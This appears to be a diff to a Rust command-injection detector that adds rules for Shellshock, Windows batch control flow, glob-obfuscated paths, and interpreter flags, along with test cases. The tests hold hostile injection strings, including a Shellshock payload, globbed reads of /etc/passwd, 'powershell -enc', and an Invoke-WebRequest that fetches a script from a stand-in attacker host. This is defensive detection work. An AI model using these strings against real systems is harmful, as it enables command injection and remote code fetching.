@@ -369,13 +369,29 @@ const SEPARATORS: u32 = class::SEMI
     | class::BACKTICK
     | class::DOLLAR
     | class::NEWLINE
-    | class::BRACE;
+    | class::BRACE
+    | class::ANGLE;
 
 /// What `detect` needs to fire (see [`Needs`]): a separator or substitution, `$IFS`, a
-/// shell path; from paranoia 2 anything (a bare command line).
+/// shell path, a glob in a path, Windows `FOR`'s `%` or an `IF` condition word, an interpreter,
+/// wrapper or cmdlet name; from paranoia 2 anything (a bare command line).
 pub(crate) fn needs() -> Needs {
-    Needs::classes(SEPARATORS | class::DOLLAR)
+    let cmdlets = STRONG.iter().filter(|w| w.contains(&b'-'));
+    Needs::classes(SEPARATORS | class::QUESTION | class::STAR | class::BRACKET | class::OPS)
         .or_gates(gate::IFS | gate::SHELL_PATH)
+        .or_words(&[
+            "exist",
+            "defined",
+            "errorlevel",
+            "cmdextversion",
+            "==",
+            "equ",
+            "neq",
+        ])
+        .or_words(&["lss", "leq", "gtr", "geq"])
+        .or_keywords(WRAPPERS)
+        .or_keywords(RUNS_ARGUMENT.iter().map(|(command, _)| command))
+        .or_keywords(cmdlets)
         .always_from(2)
 }
 
@@ -394,12 +410,320 @@ pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
             return Some(h);
         }
     }
+    if s.has(class::PAREN) && s.has(class::BRACE) {
+        // Shellshock: bash imports `() {` values from the environment as functions.
+        let t = super::subject::skip_space(b, 0);
+        if b[t..].starts_with(b"()") && b.get(super::subject::skip_space(b, t + 2)) == Some(&b'{') {
+            return Some(Hit::new("cmdi.shellshock", t, t + 3));
+        }
+    }
+    if s.has(class::SLASH) && s.has(class::QUESTION | class::STAR | class::BRACKET) {
+        if let Some(h) = glob_paths(b) {
+            return Some(h);
+        }
+    }
+    if s.has(class::SPACE) {
+        if let Some(h) = batch(b) {
+            return Some(h);
+        }
+        if let Some(h) = interpreter(b) {
+            return Some(h);
+        }
+    }
     if s.paranoia >= 2 || s.has(SEPARATORS) {
         if let Some(h) = chains(b, s.paranoia) {
             return Some(h);
         }
     }
     None
+}
+
+/// Shell and script interpreters with the flag that makes them run their next argument.
+const RUNS_ARGUMENT: &[(&[u8], &[&[u8]])] = &[
+    (b"sh", &[b"-c", b"-i"]),
+    (b"bash", &[b"-c", b"-i"]),
+    (b"zsh", &[b"-c", b"-i"]),
+    (b"dash", &[b"-c", b"-i"]),
+    (b"ksh", &[b"-c", b"-i"]),
+    (b"busybox", &[b"sh", b"nc", b"wget"]),
+    (b"cmd", &[b"/c", b"/k", b"/r"]),
+    (b"cmd.exe", &[b"/c", b"/k", b"/r"]),
+    (
+        b"powershell",
+        &[
+            b"-c",
+            b"-command",
+            b"-enc",
+            b"-e",
+            b"-encodedcommand",
+            b"-nop",
+        ],
+    ),
+    (
+        b"pwsh",
+        &[
+            b"-c",
+            b"-command",
+            b"-enc",
+            b"-e",
+            b"-encodedcommand",
+            b"-nop",
+        ],
+    ),
+    (b"python", &[b"-c"]),
+    (b"python3", &[b"-c"]),
+    (b"perl", &[b"-e"]),
+    (b"ruby", &[b"-e"]),
+    (b"php", &[b"-r"]),
+    (b"node", &[b"-e"]),
+];
+
+/// Words that run the command after them (`time sh`, `nohup curl …`).
+const WRAPPERS: &[&[u8]] = &[
+    b"time", b"nohup", b"timeout", b"env", b"sudo", b"xargs", b"exec", b"eval", b"nice",
+    b"command", b"builtin", b"doas", b"strace", b"watch",
+];
+
+/// A value that is an interpreter told to run a string (`sh -c id`, `powershell -enc …`), or a
+/// wrapper followed by a command with no ordinary-language meaning (`time whoami`), or a
+/// PowerShell cmdlet with an argument: command lines without any separator.
+fn interpreter(b: &[u8]) -> Option<Hit> {
+    let mut words = b
+        .split(|c| c.is_ascii_whitespace())
+        .filter(|w| !w.is_empty())
+        .map(|w| w.strip_prefix(b"'").unwrap_or(w));
+    let first = words.next()?;
+    let second = words.next()?;
+    let (cmd, arg) = if WRAPPERS.contains(&first) {
+        let third = words.next();
+        if command_class(second) == Some(true) && third.is_none_or(|t| !t.is_empty()) {
+            // `time sh -c x` runs `sh`; `time whoami` runs `whoami`.
+            if third.is_none() || !RUNS_ARGUMENT.iter().any(|(c, _)| *c == second) {
+                return Some(Hit::new("cmdi.command_chain", 0, b.len().min(64)));
+            }
+        }
+        (second, third.unwrap_or_default())
+    } else {
+        (first, second)
+    };
+    let runs = RUNS_ARGUMENT
+        .iter()
+        .any(|(c, flags)| *c == cmd && flags.contains(&arg));
+    let cmdlet = cmd.contains(&b'-') && command_class(cmd) == Some(true);
+    (runs || cmdlet).then(|| Hit::new("cmdi.command_chain", 0, b.len().min(64)))
+}
+
+/// Windows `cmd` control flow: `FOR [/D|/R|/L|/F ["opts"]] %%v IN (set) DO command` and
+/// `IF [/I] [NOT] EXIST|DEFINED|ERRORLEVEL|CMDEXTVERSION x command`, `IF a==b command`,
+/// `IF a EQU|NEQ|LSS|LEQ|GTR|GEQ b command`, at the start or after `&`, `|`, a newline.
+fn batch(b: &[u8]) -> Option<Hit> {
+    let mut i = 0;
+    while i < b.len() {
+        let at = super::subject::skip_space(b, i);
+        let word_end = at
+            + b[at..]
+                .iter()
+                .take_while(|c| c.is_ascii_alphabetic())
+                .count();
+        // One statement is read within a bounded window: linear however many there are.
+        let w = &b[..b.len().min(at + 256)];
+        let end = match &b[at..word_end] {
+            b"for" => batch_for(w, word_end),
+            b"if" => batch_if(w, word_end),
+            _ => None,
+        };
+        if let Some(e) = end {
+            return Some(Hit::new("cmdi.batch", at, e));
+        }
+        // Next statement start.
+        i = at + memchr::memchr3(b'&', b'|', b'\n', &b[at..])? + 1;
+    }
+    None
+}
+
+/// The next whitespace-separated token from `i` (spaces inside `"…"` or a leading `(…)` do
+/// not split it).
+fn batch_token(b: &[u8], i: usize) -> (usize, usize) {
+    let s = super::subject::skip_space(b, i);
+    if b.get(s) == Some(&b'(') {
+        if let Some(e) = memchr::memchr(b')', &b[s + 1..]) {
+            return (s, s + 1 + e + 1);
+        }
+    }
+    let mut e = s;
+    while e < b.len() && !b[e].is_ascii_whitespace() {
+        if b[e] == b'"' {
+            match memchr::memchr(b'"', &b[e + 1..]) {
+                Some(q) => e += q + 1,
+                None => return (s, b.len()),
+            }
+        }
+        e += 1;
+    }
+    (s, e)
+}
+
+fn batch_for(b: &[u8], mut i: usize) -> Option<usize> {
+    // Up to four switches and their options before the `%` loop variable.
+    for _ in 0..5 {
+        let (s, e) = batch_token(b, i);
+        if s == e {
+            return None;
+        }
+        i = e;
+        if b[s] == b'%' {
+            let (s, e) = batch_token(b, i);
+            if &b[s..e] != b"in" {
+                return None;
+            }
+            let (s, e) = batch_token(b, e);
+            if b.get(s) != Some(&b'(') {
+                return None;
+            }
+            let d = super::subject::skip_space(b, e);
+            return b[d..].starts_with(b"do").then_some(d + 2);
+        }
+        if !matches!(b[s], b'/' | b'"') && !b[s..e].contains(&b':') {
+            return None;
+        }
+    }
+    None
+}
+
+fn batch_if(b: &[u8], i: usize) -> Option<usize> {
+    let (mut s, mut e) = batch_token(b, i);
+    for skip in [&b"/i"[..], b"not"] {
+        if &b[s..e] == skip {
+            (s, e) = batch_token(b, e);
+        }
+    }
+    if s == e {
+        return None;
+    }
+    let word = &b[s..e];
+    let rest = match word {
+        b"exist" | b"defined" | b"errorlevel" | b"cmdextversion" => batch_token(b, e).1,
+        _ if memchr::memmem::find(word, b"==").is_some_and(|p| p > 0 && p + 2 < word.len()) => e,
+        _ => {
+            let (os, oe) = batch_token(b, e);
+            let op = &b[os..oe];
+            let cmp = matches!(
+                op,
+                b"==" | b"equ" | b"neq" | b"lss" | b"leq" | b"gtr" | b"geq"
+            );
+            if !cmp {
+                return None;
+            }
+            batch_token(b, oe).1
+        }
+    };
+    // Then a command (or a block): one with a batch variable, or a known command word.
+    let (cs, ce) = batch_token(b, rest);
+    if cs == ce {
+        return None;
+    }
+    let variable = b[s..rest].contains(&b'%');
+    let exist = matches!(
+        word,
+        b"exist" | b"defined" | b"errorlevel" | b"cmdextversion"
+    );
+    let command = b[cs] == b'('
+        || b[cs] == b'@'
+        || command_class(&b[cs..ce]).is_some()
+        || matches!(&b[cs..ce], b"goto" | b"md" | b"else");
+    (command || ((variable || exist) && ce > cs)).then_some(ce)
+}
+
+/// Absolute paths spelled with shell globs (`/???/c?t`, `/etc/[p]asswd`, `/bi[n]/bash`) that
+/// resolve to a shell or a credentials file: only a shell expands them.
+fn glob_paths(b: &[u8]) -> Option<Hit> {
+    const TARGETS: &[&[&[u8]]] = &[
+        &[b"etc", b"passwd"],
+        &[b"etc", b"shadow"],
+        &[b"etc", b"group"],
+        &[b"etc", b"hosts"],
+        &[b"etc", b"sudoers"],
+        &[b"bin", b"*"],
+        &[b"sbin", b"*"],
+        &[b"usr", b"bin", b"*"],
+        &[b"usr", b"sbin", b"*"],
+        &[b"usr", b"local", b"bin", b"*"],
+        &[b"proc", b"self", b"*"],
+        &[b"dev", b"tcp", b"*"],
+    ];
+    let mut i = 0;
+    while let Some(p) = memchr::memchr(b'/', &b[i..]).map(|p| i + p) {
+        let starts = p == 0 || !is_glob_path_byte(b[p - 1]);
+        let end = p + b[p..].iter().take_while(|c| is_glob_path_byte(**c)).count();
+        i = end.max(p + 1);
+        let run = &b[p..end];
+        if !starts || run.len() > 64 || !run.iter().any(|c| matches!(c, b'?' | b'*' | b'[')) {
+            continue;
+        }
+        // A bracket expression matches one character, even one spelled with slashes.
+        let mut pat = [0u8; 64];
+        let mut n = 0;
+        let mut k = 1; // past the leading `/`
+        while k < run.len() {
+            if run[k] == b'[' {
+                if let Some(c) = memchr::memchr(b']', &run[k + 1..]) {
+                    pat[n] = b'?';
+                    n += 1;
+                    k += c + 2;
+                    continue;
+                }
+            }
+            pat[n] = run[k];
+            n += 1;
+            k += 1;
+        }
+        let segs: Vec<&[u8]> = pat[..n]
+            .split(|c| *c == b'/')
+            .filter(|s| !s.is_empty())
+            .collect();
+        let hit = TARGETS.iter().any(|t| {
+            t.len() == segs.len() && t.iter().zip(&segs).all(|(t, s)| *t == b"*" || glob(s, t))
+        });
+        if hit {
+            return Some(Hit::new("cmdi.shell_evasion", p, end));
+        }
+    }
+    None
+}
+
+fn is_glob_path_byte(c: u8) -> bool {
+    c.is_ascii_alphanumeric()
+        || matches!(
+            c,
+            b'/' | b'?' | b'*' | b'[' | b']' | b'!' | b'-' | b'_' | b'.'
+        )
+}
+
+/// Whether glob `pat` (`?`, `*`) matches `text`; both are short (≤ 64 bytes).
+fn glob(pat: &[u8], text: &[u8]) -> bool {
+    // Classic two-pointer matcher with one backtrack point: linear in practice, and bounded
+    // by 64 × 64 on these short segments.
+    let (mut p, mut t) = (0, 0);
+    let mut star: Option<(usize, usize)> = None;
+    while t < text.len() {
+        if p < pat.len() && (pat[p] == b'?' || pat[p] == text[t]) {
+            p += 1;
+            t += 1;
+        } else if p < pat.len() && pat[p] == b'*' {
+            star = Some((p, t));
+            p += 1;
+        } else if let Some((sp, st)) = star {
+            p = sp + 1;
+            t = st + 1;
+            star = Some((sp, st + 1));
+        } else {
+            return false;
+        }
+    }
+    while p < pat.len() && pat[p] == b'*' {
+        p += 1;
+    }
+    p == pat.len()
 }
 
 fn chains(b: &[u8], paranoia: u8) -> Option<Hit> {
@@ -415,6 +739,11 @@ fn chains(b: &[u8], paranoia: u8) -> Option<Hit> {
         let (after, substitution) = match c {
             b';' | b'\n' | b'\r' => (i + 1, false),
             b'|' | b'&' => (i + if b.get(i + 1) == Some(&c) { 2 } else { 1 }, false),
+            // ``x`` (reStructuredText, Markdown) is an empty substitution, then a word.
+            b'`' if b.get(i + 1) == Some(&b'`') => {
+                i += 2;
+                continue;
+            }
             b'`' => (i + 1, true),
             b'$' | b'<' | b'>' if b.get(i + 1) == Some(&b'(') => (i + 2, true),
             // Brace expansion `{cat,/etc/passwd}` runs its first word.
@@ -450,7 +779,16 @@ fn command_at(b: &[u8], sep: usize, at: usize, substitution: bool, start: bool) 
         return (class && args && w.end < b.len())
             .then(|| Hit::new("cmdi.command_chain", 0, w.end));
     }
-    let closed = substitution && matches!(b.get(w.end), Some(b'`' | b')'));
+    let closed = substitution && matches!(b.get(w.end), Some(b'`' | b')'))
+        // `$(cat file)`, `<(ls x)`: a known command inside a substitution that closes
+        // before any other separator (backticks excepted: Markdown quotes code with them).
+        || (substitution
+            && sep + 1 < b.len()
+            && b[sep] != b'`'
+            && b[w.end..]
+                .iter()
+                .take_while(|c| !matches!(c, b';' | b'|' | b'&' | b'`' | b'\n'))
+                .any(|c| *c == b')'));
     if w.evasion && (class || args) {
         return hit("cmdi.shell_evasion");
     }
@@ -543,6 +881,16 @@ mod tests {
             "a & dir c:\\",
             "{cat,/etc/passwd}",
             ";lastlogin -u admin",
+            "() { :; }; /bin/id",
+            "for /f \"tokens=*\" %%g in ('dir /b') do echo %%g",
+            "& IF EXIST C:\\boot.ini type C:\\boot.ini",
+            "if \"%VAR%\"==\"x\" goto end",
+            "cat /[e]tc/pa??wd",
+            "/usr/[a-z]in/bash -i",
+            "time sh -c whoami",
+            "powershell -enc SQBFAFgA",
+            "Invoke-WebRequest http://evil.example/x.ps1",
+            "x<(cat /tmp/f)",
         ] {
             assert!(rule(a).is_some(), "missed {a}");
         }
@@ -561,6 +909,13 @@ mod tests {
             "AT&T; id rather not",
             "one; two; three",
             "the /bin directory",
+            "Use ``pip`` to install",
+            "For each item in (the list) do nothing",
+            "if not defined, the default applies",
+            "if a == b then c",
+            "time flies like an arrow",
+            "see /docs/[draft]/notes?.md",
+            "sh is a shell",
         ] {
             assert_eq!(rule(b), None, "false positive on {b}");
         }
